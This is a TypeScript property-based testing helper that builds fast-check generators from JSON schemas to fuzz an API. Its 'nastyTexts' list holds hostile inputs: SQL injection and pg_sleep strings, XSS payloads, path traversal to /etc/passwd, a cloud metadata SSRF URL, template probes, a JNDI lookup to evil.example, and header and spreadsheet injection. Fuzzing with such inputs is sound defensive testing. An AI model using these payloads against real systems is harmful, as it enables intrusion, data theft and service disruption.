import fc from 'fast-check';

/** A JSON schema as the published contract writes it. */
export type Schema = Readonly<Record<string, unknown>>;

export const nastyTexts: readonly string[] = [
  '',
  ' ',
  '\u0000',
  '\ud800',
  '\u202e\u200b\ufeff',
  "'; drop table listings; --",
  "' or '1'='1",
  "x') or 1=1 --",
  '"; select pg_sleep(10); --',
  "1'||(select pg_sleep(10))||'",
  '%',
  '_%\\',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '//evil.example/%2f..',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on templates
  '${7*7}{{7*7}}#{7*7}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on loggers
  '${jndi:ldap://evil.example/a}',
  '%00%0d%0aset-cookie:a=b',
  'a\r\nset-cookie: a=b\r\n\r\n<html>',
  '=cmd|calc!A0',
  '__proto__',
  'constructor',
  'toString',
  '-0',
  '1e999',
  'NaN',
  'null',
  'true',
  '9'.repeat(400),
  '('.repeat(500),
  'a'.repeat(5_000),
  '🚗'.repeat(100),
  '١٢٣٤',
  '\n\r\t\v',
];
const nastyNumbers = [0, -0, -1, 0.1, 1e21, -1e21, 2 ** 53, 2 ** 31, -(2 ** 31), 1e-300, 99_999_999_999];

export const anything: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(...nastyTexts, ...nastyNumbers, null, true, false, [], {}),
  fc.jsonValue({ maxDepth: 3 }),
);

const list = (value: unknown): readonly Schema[] => (Array.isArray(value) ? (value as Schema[]) : []);

/** Values that the schema allows, as far as it says: what gets past the first check reaches the code behind it. */
export function fromSchema(schema: Schema, root: Schema, depth = 0): fc.Arbitrary<unknown> {
  const inner = (each: Schema) => fromSchema(each, root, depth + 1);
  if (typeof schema.$ref === 'string') {
    const found = schema.$ref
      .replace(/^#\//, '')
      .split('/')
      .reduce<unknown>((at, part) => (at as Record<string, unknown> | undefined)?.[part], root);
    return depth > 6 ? fc.constant(null) : inner((found ?? {}) as Schema);
  }
  if ('const' in schema) return fc.constant(schema.const);
  if (Array.isArray(schema.enum)) return fc.constantFrom(...(schema.enum as unknown[]));
  const choices = [...list(schema.anyOf), ...list(schema.oneOf)];
  if (choices.length > 0) return fc.oneof(...choices.map(inner));
  if (list(schema.allOf).length > 0)
    return fc.tuple(...list(schema.allOf).map(inner)).map((parts) => Object.assign({}, ...parts) as unknown);
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  if (type === 'string') return stringFrom(schema);
  if (type === 'integer' || type === 'number') return numberFrom(schema, type === 'integer');
  if (type === 'boolean') return fc.boolean();
  if (type === 'null') return fc.constant(null);
  if (type === 'array')
    return fc.array(inner((schema.items ?? {}) as Schema), {
      minLength: Number(schema.minItems ?? 0),
      maxLength: Math.min(Number(schema.maxItems ?? 4), Number(schema.minItems ?? 0) + 4),
    });
  if (type === 'object' || schema.properties) {
    const properties = Object.entries((schema.properties ?? {}) as Record<string, Schema>);
    const required = new Set(schema.required as string[] | undefined);
    return fc.record(Object.fromEntries(properties.map(([name, each]) => [name, inner(each)])), {
      requiredKeys: properties.map(([name]) => name).filter((name) => required.has(name)),
    });
  }
  return anything;
}

function stringFrom({ format, pattern, minLength = 0, maxLength = 200 }: Schema): fc.Arbitrary<string> {
  if (format === 'date-time')
    return fc
      .date({ min: new Date('1990-01-01'), max: new Date('2100-01-01'), noInvalidDate: true })
      .map((date) => date.toISOString());
  if (format === 'date')
    return fc
      .date({ min: new Date('1990-01-01'), max: new Date('2100-01-01'), noInvalidDate: true })
      .map((date) => date.toISOString().slice(0, 10));
  if (format === 'email') return fc.emailAddress();
  const least = Number(minLength);
  const most = Math.min(Number(maxLength), least + 300);
  const within = fc.oneof(
    fc.string({ minLength: least, maxLength: most }),
    fc.constantFrom(...nastyTexts).map((text) => text.padEnd(least, 'x').slice(0, most)),
  );
  if (typeof pattern !== 'string') return within;
  const expression = safeExpression(pattern);
  return expression ? fc.oneof(fc.stringMatching(expression, { size: 'small' }), within) : within;
}

/** fast-check cannot make texts for every expression, such as those that look ahead. */
function safeExpression(pattern: string): RegExp | undefined {
  try {
    const expression = new RegExp(pattern);
    fc.sample(fc.stringMatching(expression), 1);
    return expression;
  } catch {
    return undefined;
  }
}

function numberFrom(schema: Schema, isInteger: boolean): fc.Arbitrary<number> {
  const min = Number(schema.minimum ?? schema.exclusiveMinimum ?? -1e6);
  const max = Number(schema.maximum ?? schema.exclusiveMaximum ?? 1e6);
  if (isInteger)
    return fc.oneof(fc.integer({ min: Math.ceil(min), max: Math.floor(max) }), fc.constantFrom(min, max));
  return fc.oneof(fc.double({ min, max, noNaN: true }), fc.constantFrom(min, max));
}

/** The same value with one thing wrong somewhere in it. */
export function withOneWrong(valid: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  return fc.tuple(valid, fc.nat(), fc.nat(4), anything).map(([value, at, how, wrong]) => {
    if (typeof value !== 'object' || value === null) return wrong;
    const names = Object.keys(value);
    const name = names[at % Math.max(1, names.length)] ?? 'x';
    if (how === 0) return Object.fromEntries(Object.entries(value).filter(([each]) => each !== name));
    if (how === 1) return { ...value, unknown: wrong };
    if (how === 2) return [value];
    return { ...value, [name]: wrong };
  });
}
